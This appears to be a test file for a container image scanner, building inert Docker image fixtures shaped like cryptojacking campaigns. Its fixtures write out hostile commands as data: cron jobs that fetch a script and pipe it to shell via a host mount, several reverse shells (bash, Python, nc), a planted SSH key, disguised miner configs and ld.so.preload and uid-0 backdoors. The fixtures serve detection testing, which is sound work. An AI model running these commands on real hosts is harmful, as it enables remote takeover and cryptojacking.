"""Images in the shape of the 2017-2018 campaign and of later ones: unsafe, with the way to the code. All inert: text and
configuration with documentation addresses, wallets made from random keys, no program that does anything."""
import base64
import hashlib
import json
import os
import struct

import support
from support import UNSAFE, UNKNOWN, hullcheck

BASE = support.layer({
    "etc/os-release": "ID=debian\nVERSION_ID=12\nPRETTY_NAME=\"Debian 12\"\n",
    "var/lib/dpkg/status": "Package: base-files\nStatus: install ok installed\nArchitecture: amd64\nVersion: 12.4\n\n",
    "bin/sh": ("\x7fELF", 0o755),
})


def keccak256(data):
    """Original Keccak (padding 0x01), as Monero uses it."""
    rounds, mask = [], (1 << 64) - 1
    lfsr = 1
    for _ in range(24):
        constant = 0
        for j in range(7):
            if lfsr & 1:
                constant ^= 1 << ((1 << j) - 1)
            lfsr = (lfsr << 1) ^ (0x171 if lfsr & 0x80 else 0)
        rounds.append(constant)
    rotl = lambda v, n: ((v << n) | (v >> (64 - n))) & mask if n else v
    state = [[0] * 5 for _ in range(5)]
    data += b"\x01" + b"\x00" * (-(len(data) + 1) % 136)
    data = data[:-1] + bytes([data[-1] | 0x80])
    for start in range(0, len(data), 136):
        for i in range(17):
            state[i % 5][i // 5] ^= struct.unpack_from("<Q", data, start + 8 * i)[0]
        for constant in rounds:
            c = [state[x][0] ^ state[x][1] ^ state[x][2] ^ state[x][3] ^ state[x][4] for x in range(5)]
            d = [c[(x - 1) % 5] ^ rotl(c[(x + 1) % 5], 1) for x in range(5)]
            state = [[state[x][y] ^ d[x] for y in range(5)] for x in range(5)]
            x, y, lane = 1, 0, state[1][0]
            for t in range(24):
                x, y = y, (2 * x + 3 * y) % 5
                lane, state[x][y] = state[x][y], rotl(lane, (t + 1) * (t + 2) // 2 % 64)
            state = [[state[x][y] ^ (~state[(x + 1) % 5][y] & state[(x + 2) % 5][y]) for y in range(5)] for x in range(5)]
            state[0][0] ^= constant
    return b"".join(struct.pack("<Q", state[i % 5][i // 5]) for i in range(4))


def monero_address(seed):
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    body = bytes([18]) + hashlib.sha512(seed).digest()
    body += keccak256(body)[:4]
    sizes = {8: 11, 5: 7}
    text = ""
    for i in range(0, len(body), 8):
        block = body[i:i + 8]
        value, digits = int.from_bytes(block, "big"), ""
        for _ in range(sizes[len(block)]):
            value, rest = divmod(value, 58)
            digits = alphabet[rest] + digits
        text += digits
    return text


WALLET = monero_address(b"an address nobody has the key of")


def verdict(name, layers, config, want=UNSAFE):
    path = support.docker_archive(support.scratch() / f"{name}.tar", layers, config, tag=f"sample/{name}:latest")
    answer = hullcheck("image", path, "--format", "json", database=support.database())
    assert answer.code == want, (name, answer)
    return answer.json


def rules(report):
    return {finding["rule"] for finding in report["threats"]}


def chains(report):
    return [" → ".join(finding["chain"]) for finding in report["threats"]]


def host_crontab_through_a_mount():
    for i, command in enumerate((
            "echo '* * * * * root curl -s http://203.0.113.7:8220/logo3.jpg | bash -s' >> /mnt/etc/crontab; sleep 999999",
            "printf '*/5 * * * * wget -qO- http://203.0.113.7/x.sh|sh\\n' >/host/var/spool/cron/root && tail -f /dev/null",
            "mkdir -p /mnt/etc/cron.d; echo \"* * * * * root /tmp/.x\" | tee /mnt/etc/cron.d/zzz > /dev/null")):
        report = verdict(f"cron{i}", [BASE], {"Cmd": ["/bin/sh", "-c", command]})
        assert "H02" in rules(report), (command, report["threats"])
        assert any(chain.startswith("Cmd") for chain in chains(report)), chains(report)


def reverse_shells():
    for i, (files, config) in enumerate((
            ({}, {"Cmd": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]}),
            ({}, {"Entrypoint": ["python", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                                 "s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
                                 "os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])"]}),
            ({"start.sh": ("#!/bin/sh\nexec 5<>/dev/tcp/198.51.100.4/8443\ncat <&5 | while read l; do $l 2>&5 >&5; done\n", 0o755)},
             {"Entrypoint": ["/start.sh"]}),
            ({"run.sh": ("#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 9001 > /tmp/f\n", 0o755)},
             {"Cmd": ["/run.sh"]}))):
        report = verdict(f"shell{i}", [BASE, support.layer(files)] if files else [BASE], config)
        assert rules(report) & {"B01", "B02", "B03", "B04"}, (config, report["threats"])


def planted_ssh_key():
    blob = base64.b64encode(struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + os.urandom(32)).decode()
    key = f"ssh-ed25519 {blob} nobody@example.com\n"
    report = verdict("key-file", [BASE, support.layer({"root/.ssh/authorized_keys": (key, 0o600)})], {"Cmd": ["/bin/sh"]})
    assert "B07" in rules(report), report["threats"]
    report = verdict("key-mount", [BASE], {"Cmd": ["sh", "-c", f"mkdir -p /mnt/root/.ssh && echo '{key.strip()}' >> /mnt/root/.ssh/authorized_keys"]})
    assert rules(report) & {"H02", "B08"}, report["threats"]


def renamed_miner():
    config = json.dumps({"algo": "rx/0", "pools": [{"url": "203.0.113.20:3333", "user": WALLET, "pass": "x", "keepalive": True}],
                         "donate-level": 1, "cpu": {"huge-pages": True}})
    report = verdict("miner-config", [BASE, support.layer({"etc/kworker.json": config, "usr/sbin/kworker": ("\x7fELF", 0o755)})],
                     {"Entrypoint": ["/usr/sbin/kworker", "-c", "/etc/kworker.json"]})
    assert "M05" in rules(report), report["threats"]
    report = verdict("miner-command", [BASE, support.layer({"usr/sbin/sshd": ("\x7fELF", 0o755)})],
                     {"Entrypoint": ["/usr/sbin/sshd", "-o", "stratum+tcp://pool.example.com:3333", "-u", WALLET, "-p", "x"]})
    assert {"M01", "M06"} & rules(report), report["threats"]


def deleted_miner_was_still_shipped():
    config = json.dumps({"algo": "rx/0", "pools": [{"url": "stratum+tcp://203.0.113.20:3333", "user": WALLET}],
                         "donate-level": 1, "cpu": True})
    report = verdict("deleted", [BASE, support.layer({"opt/.c.json": config}), support.layer({}, whiteouts=["opt/.c.json"])],
                     {"Cmd": ["/bin/sh"]})
    found = [f for f in report["threats"] if f["rule"] in ("M05", "M01")]
    assert found and any(location["visibility"] == "deleted" for f in found for location in f["locations"]), report["threats"]


def preload_and_second_root():
    verdict("preload", [BASE, support.layer({"etc/ld.so.preload": "/lib/libgc.so\n", "lib/libgc.so": ("\x7fELF", 0o755)})], {})
    verdict("uid0", [BASE, support.layer({"etc/passwd": "root:x:0:0:root:/root:/bin/bash\nsysd:x:0:0::/:/bin/bash\n"})], {})


def decoded_into_a_shell_at_start():
    text = base64.b64encode(b"echo nothing here\n").decode()
    report = verdict("decode", [BASE], {"Entrypoint": ["sh", "-c", f"echo {text} | base64 -d | sh"]})
    assert "D07" in rules(report), report["threats"]


def fetched_code_at_start_is_never_safe():
    report = verdict("fetch", [BASE], {"Entrypoint": ["sh", "-c", "curl -fsSL http://example.com/install.sh | sh"]}, UNKNOWN)
    assert "D01" in rules(report), report["threats"]


def private_key_in_the_image():
    import subprocess
    key = subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519"], capture_output=True, text=True, check=True).stdout
    report = verdict("private-key", [BASE, support.layer({"app/deploy.pem": (key, 0o600)})], {"Cmd": ["/bin/sh"]})
    assert report["secrets"] and "BEGIN" not in json.dumps(report["secrets"][0]["evidence"]).replace("-----BEGIN", ""), report["secrets"]
    assert key.splitlines()[1] not in json.dumps(report)


support.need_shared()
support.run(host_crontab_through_a_mount, reverse_shells, planted_ssh_key, renamed_miner, deleted_miner_was_still_shipped,
            preload_and_second_root, decoded_into_a_shell_at_start, fetched_code_at_start_is_never_safe,
            private_key_in_the_image)
